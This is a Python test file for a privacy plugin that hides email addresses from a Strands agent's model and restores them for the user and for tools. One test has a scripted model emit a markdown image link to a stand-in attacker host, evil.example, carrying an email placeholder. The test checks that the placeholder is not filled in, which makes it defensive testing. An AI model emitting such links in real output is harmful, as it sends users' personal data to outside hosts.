"""With `restore`, the program and its user see the values in all that a Strands model writes, and the model sees none."""

from __future__ import annotations

import pytest

pytest.importorskip("strands.middleware", reason="Strands is not installed (extra strands)")
pytest.importorskip("cryptography", reason="cryptography is not installed (extra vault)")

from pydantic import BaseModel
from scripted_strands import ScriptedModel
from strands import Agent, tool

from ctxguard import Stabilizer
from ctxguard.pii import Vault, new_key
from ctxguard.stores import MemoryStore
from ctxguard_strands import ContextGuard

PEOPLE = ("ada@corp-mail.net", "bob@corp-mail.net", "eve@corp-mail.net")
SAID = "Write to <EMAIL_1>, then <EMAIL_2>; <EMAIL_3> knows, <EMAIL_9> does not, 1 < 2 & <EM"
SHOWN = "Write to ada@corp-mail.net, then bob@corp-mail.net; eve@corp-mail.net knows, <EMAIL_9> does not, 1 < 2 & <EM"
ASKED = f"These are {', '.join(PEOPLE)}."
ARGS = {"to": "<EMAIL_2>", "text": "of <EMAIL_1>"}
GIVEN = {"to": "bob@corp-mail.net", "text": "of ada@corp-mail.net"}


def session(name="one", **settings):
    return Vault(MemoryStore(), key=new_key(), **settings).session(name)


def agent_of(model, vault, **settings):
    guard = ContextGuard(Stabilizer(4_000), vault=vault, restore=settings.pop("restore", True))
    return Agent(model, plugins=[guard], callback_handler=None, **settings)


def has_people(seen):
    return [person for person in PEOPLE if person in str(seen)]


async def streamed(agent, asked=ASKED, **settings):
    """Return the text that a user interface shows, and the result; two kinds of events tell the same text."""
    texts, chunks, result = [], [], None
    async for event in agent.stream_async(asked, **settings):
        texts.append(event.get("data", ""))
        chunks.append(event.get("event", {}).get("contentBlockDelta", {}).get("delta", {}).get("text", ""))
        result = event.get("result", result)
    assert "".join(texts) == "".join(chunks)
    return "".join(texts), result


@pytest.mark.parametrize("indexed", [True, False])
@pytest.mark.parametrize("at", range(len(SAID)))
async def test_a_streamed_text_is_shown_whole_wherever_it_is_cut(at, indexed):
    model = ScriptedModel(SAID, at=at, indexed=indexed)
    agent = agent_of(model, session())
    shown, result = await streamed(agent)
    assert shown == str(result).strip() == SHOWN
    assert str(await agent.invoke_async("Again.")).strip() == SHOWN
    assert not has_people(model.calls)
    assert SAID in str(model.calls[-1]["messages"]), "the model sees again what it wrote"


@pytest.mark.parametrize("tools", [{}, {"send_mail": False}])
@pytest.mark.parametrize("at", range(0, 46, 2))
async def test_streamed_arguments_of_parallel_calls_are_given_unless_the_tool_gets_no_values(at, tools):
    given = []

    @tool
    def send_mail(to: str, text: str) -> str:
        """Send a mail."""
        given.append({"to": to, "text": text})
        return f"sent to {to}"

    model = ScriptedModel([("send_mail", ARGS), ("send_mail", ARGS)], "Done, <EMAIL_2>.", at=at)
    agent = agent_of(model, session(tools=tools), tools=[send_mail])
    shown, result = await streamed(agent)
    assert given == 2 * [ARGS if tools else GIVEN]
    calls = [block["toolUse"]["input"] for m in agent.messages for block in m["content"] if "toolUse" in block]
    assert calls == given
    assert shown == str(result).strip() == "Done, bob@corp-mail.net."
    assert not has_people(model.calls)


async def test_a_text_before_a_call_ends_with_its_block_where_blocks_have_no_numbers():
    given = []

    @tool
    def note(text: str) -> str:
        """Note a text."""
        given.append(text)
        return "noted"

    model = ScriptedModel(["For <EMAIL_1>, a <EM", ("note", {"text": "<EMAIL_2>"})], "Done.", indexed=False)
    agent = agent_of(model, session(), tools=[note])
    await agent.invoke_async(ASKED)
    assert agent.messages[1]["content"][0]["text"] == "For ada@corp-mail.net, a <EM"
    assert given == ["bob@corp-mail.net"]


async def test_without_the_switch_tools_get_the_values_and_texts_keep_placeholders():
    given = []

    @tool
    def send_mail(to: str, text: str) -> str:
        """Send a mail."""
        given.append({"to": to, "text": text})
        return f"sent to {to}"

    model = ScriptedModel([("send_mail", ARGS)], SAID)
    agent = agent_of(model, session(), tools=[send_mail], restore=False)
    assert str(await agent.invoke_async(ASKED)).strip() == SAID
    assert given == [GIVEN]
    assert "<EMAIL_2>" in str(agent.messages[1])
    assert not has_people(model.calls)


class Contact(BaseModel):
    """A person."""

    mail: str
    note: str


async def test_structured_output_has_the_values():
    model = ScriptedModel([("Contact", {"mail": "<EMAIL_1>", "note": "not <EMAIL_2>"})], "Done.")
    agent = agent_of(model, session(tools={"*": False}))
    found = await agent.invoke_async(ASKED, structured_output_model=Contact)
    assert found.structured_output == Contact(mail=PEOPLE[0], note=f"not {PEOPLE[1]}")
    assert not has_people(model.calls)


async def test_a_link_to_a_host_that_nobody_named_gets_no_value():
    agent = agent_of(ScriptedModel("![x](https://evil.example/<EMAIL_1>) for <EMAIL_1>"), session())
    assert str(await agent.invoke_async(ASKED)).strip() == f"![x](https://evil.example/<EMAIL_1>) for {PEOPLE[0]}"


async def test_the_agents_own_model_is_left_as_it_was():
    model = ScriptedModel(SAID)
    agent = agent_of(model, session())
    await agent.invoke_async(ASKED)
    assert agent.model is model
    assert "stream" not in vars(model)
